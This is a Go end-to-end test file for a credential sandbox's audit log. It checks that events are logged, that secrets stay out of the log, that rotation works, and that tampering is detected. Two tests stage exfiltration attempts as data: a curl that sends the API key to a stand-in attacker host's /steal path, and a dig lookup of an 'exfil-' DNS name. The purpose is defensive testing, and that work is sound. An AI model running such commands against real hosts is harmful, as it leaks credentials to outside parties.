//go:build linux

package e2e

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// auditRecord is the part of an audit record the tests look at.
type auditRecord struct {
	Seq        uint64
	Kind       string
	Sandbox    string
	Vault      string
	Credential string
	Host       string
	Method     string
	Path       string
	Status     int
	Reason     string
}

func (a *agent) auditRecords(t *testing.T, args ...string) []auditRecord {
	t.Helper()
	out := a.mustKG("", append([]string{"audit", "--json"}, args...)...)
	var recs []auditRecord
	if err := json.Unmarshal([]byte(out), &recs); err != nil {
		t.Fatalf("audit --json: %v\n%s", err, out)
	}
	return recs
}

func countKind(recs []auditRecord, kind string, match func(auditRecord) bool) int {
	n := 0
	for _, r := range recs {
		if r.Kind == kind && (match == nil || match(r)) {
			n++
		}
	}
	return n
}

// TestAuditTrail drives changes, an injection and denials through a real
// sandbox and checks that the audit log records each of them, filters by
// vault, never holds the secret, survives archiving, and that changing any
// byte of a stored record makes `keygate audit verify` fail and name it.
func TestAuditTrail(t *testing.T) {
	w := world(t)
	a := startAgent(t, w)
	key, key2 := secret(t), secret(t)
	a.mustKG("", "vault", "create", "v")
	a.mustKG(key+"\n", "cred", "add", "v", "api", "--env", "API_KEY", "--domain", w.APIHost())
	a.mustKG("", "vault", "create", "other")

	script := `curl -sS -m 10 -o /dev/null https://` + w.APIHost() + `/v1/models?secret=no -H "Authorization: Bearer $API_KEY"; ` +
		`curl -sS -m 10 -o /dev/null https://` + w.AttackerHost() + `/steal -H "Authorization: Bearer $API_KEY"; true`
	if _, errOut, code := a.run([]string{"--vault", "v", "--allow", w.AttackerHost()}, script); code != 0 {
		t.Fatalf("sandbox: exit %d: %s", code, errOut)
	}
	a.mustKG(key2+"\n", "cred", "rotate", "v", "api")
	a.mustKG("", "vault", "archive", "v")

	recs := a.auditRecords(t)
	checks := []struct {
		kind  string
		match func(auditRecord) bool
	}{
		{"vault.create", func(r auditRecord) bool { return r.Vault == "v" }},
		{"credential.add", func(r auditRecord) bool { return r.Vault == "v" && r.Credential == "api" }},
		{"sandbox.create", func(r auditRecord) bool { return r.Vault == "v" && r.Sandbox != "" }},
		{"request.inject", func(r auditRecord) bool {
			return r.Vault == "v" && r.Credential == "api" && r.Host == w.APIHost() &&
				r.Method == "GET" && r.Path == "/v1/models" && r.Status == 200 && r.Sandbox != ""
		}},
		{"request.deny", func(r auditRecord) bool {
			return r.Host == w.AttackerHost() && r.Reason == "placeholder_unapproved_host" && r.Credential == "api"
		}},
		{"sandbox.remove", func(r auditRecord) bool { return r.Vault == "v" }},
		{"credential.rotate", func(r auditRecord) bool { return r.Credential == "api" }},
		{"vault.archive", func(r auditRecord) bool { return r.Vault == "v" }},
	}
	for _, c := range checks {
		if countKind(recs, c.kind, c.match) == 0 {
			t.Errorf("no matching %s record in %+v", c.kind, recs)
		}
	}
	for i, r := range recs {
		if r.Seq != uint64(i+1) {
			t.Fatalf("record %d has seq %d: not contiguous", i, r.Seq)
		}
	}

	t.Run("filter by vault", func(t *testing.T) {
		for _, r := range a.auditRecords(t, "--vault", "other") {
			if r.Vault != "other" {
				t.Fatalf("--vault other returned %+v", r)
			}
		}
		if n := len(a.auditRecords(t, "--vault", "other")); n != 1 {
			t.Fatalf("--vault other: %d records, want the vault.create only", n)
		}
	})

	t.Run("table output and verify", func(t *testing.T) {
		out := a.mustKG("", "audit")
		if !strings.Contains(out, "request.inject") || !strings.Contains(out, "SEQ") {
			t.Fatalf("audit table: %s", out)
		}
		out = a.mustKG("", "audit", "verify")
		if !strings.Contains(out, "verified") {
			t.Fatalf("audit verify: %s", out)
		}
	})

	logPath := filepath.Join(a.dir, "state", "audit.log")
	raw, err := os.ReadFile(logPath)
	if err != nil {
		t.Fatal(err)
	}
	for _, k := range []string{key, key2} {
		if bytes.Contains(raw, []byte(k)) || strings.Contains(a.mustKG("", "audit", "--json"), k) {
			t.Fatal("the audit log holds a secret")
		}
	}
	if bytes.Contains(raw, []byte("secret=no")) {
		t.Fatal("the audit log holds a query string")
	}

	t.Run("tampering is detected and located", func(t *testing.T) {
		// Change one byte inside the third record's host or vault name.
		lines := bytes.SplitAfter(raw, []byte("\n"))
		off := 0
		for _, l := range lines[:2] {
			off += len(l)
		}
		i := bytes.Index(lines[2], []byte(`"vault":"`))
		if i < 0 {
			t.Fatalf("third record has no vault: %s", lines[2])
		}
		pos := int64(off + i + len(`"vault":"`))
		f, err := os.OpenFile(logPath, os.O_WRONLY, 0)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := f.WriteAt([]byte{'X'}, pos); err != nil {
			t.Fatal(err)
		}
		f.Close()

		out, errOut, code := a.kg("", "audit", "verify")
		if code == 0 {
			t.Fatalf("audit verify passed a tampered log: %s", out)
		}
		if !strings.Contains(errOut, "first bad record is 3") {
			t.Fatalf("audit verify: %q, want it to name record 3", errOut)
		}
	})
}

// TestAuditDNSDenial checks that a lookup of a name outside the policy is
// audited with the sandbox, the name and the reason.
func TestAuditDNSDenial(t *testing.T) {
	w := world(t)
	a := startAgent(t, w)
	name := "exfil-" + randHex(8) + "." + w.Zone
	if _, errOut, code := a.run(nil, "dig +short +tries=1 +time=3 TXT "+name+"; true"); code != 0 {
		t.Fatalf("sandbox: exit %d: %s", code, errOut)
	}
	recs := a.auditRecords(t, "--kind", "dns.deny")
	if countKind(recs, "dns.deny", func(r auditRecord) bool { return r.Host == name && r.Sandbox != "" && r.Reason != "" }) == 0 {
		t.Fatalf("no dns.deny record for %s in %+v", name, recs)
	}
	for _, q := range w.DNSQueries() {
		if strings.Contains(q.Name, "exfil-") {
			t.Fatalf("the world's DNS server saw %s", q.Name)
		}
	}
}

// TestAuditRotation: past --audit-max-mib the log moves into segments that
// continue one chain. Queries and verification read every segment, the
// agent reopens across a rotation, and the segments hold no secret.
func TestAuditRotation(t *testing.T) {
	w, a, key := credentialedAgent(t, "--audit-max-mib", "1")
	state := filepath.Join(a.dir, "state")
	segs := func() []string {
		m, _ := filepath.Glob(filepath.Join(state, "audit.log.[0-9]*"))
		return m
	}
	// Each injection is a record of about 400 bytes: a few thousand fill
	// more than a MiB.
	for try := 0; len(segs()) == 0 && try < 5; try++ {
		out, errOut, code := a.run([]string{"--vault", "v"}, filepath.Join(binDir, "loadclient")+
			" -url https://"+w.APIHost()+"/rot -c 32 -d 2s -bearer-env API_KEY")
		if code != 0 {
			t.Fatalf("loadclient: exit %d: %s %s", code, redact(out, key), redact(errOut, key))
		}
	}
	if len(segs()) == 0 {
		t.Fatal("no segment after the load")
	}

	check := func(when string) int {
		t.Helper()
		if out, errOut, code := a.kg("", "audit", "verify"); code != 0 {
			t.Fatalf("%s: audit verify: exit %d: %s %s", when, code, out, errOut)
		}
		recs := a.auditRecords(t)
		for i, r := range recs {
			if r.Seq != uint64(i+1) {
				t.Fatalf("%s: record %d has seq %d: a segment was not read", when, i+1, r.Seq)
			}
		}
		if n := countKind(recs, "request.inject", nil); n < 2000 {
			t.Fatalf("%s: %d injections in the trail", when, n)
		}
		return len(recs)
	}
	n := check("rotated")
	a.stop()
	a.start()
	if _, errOut, code := a.run([]string{"--vault", "v"}, `curl -sS -m 10 -o /dev/null https://`+w.APIHost()+
		`/after -H "Authorization: Bearer $API_KEY"`); code != 0 {
		t.Fatalf("after a restart: exit %d: %s", code, redact(errOut, key))
	}
	if m := check("after a restart"); m <= n {
		t.Fatalf("after a restart: %d records, had %d", m, n)
	}
	for _, s := range append(segs(), filepath.Join(state, "audit.log")) {
		b, err := os.ReadFile(s)
		if err != nil || bytes.Contains(b, []byte(key)) {
			t.Fatalf("%s: %v, or it holds the secret", filepath.Base(s), err)
		}
	}
}
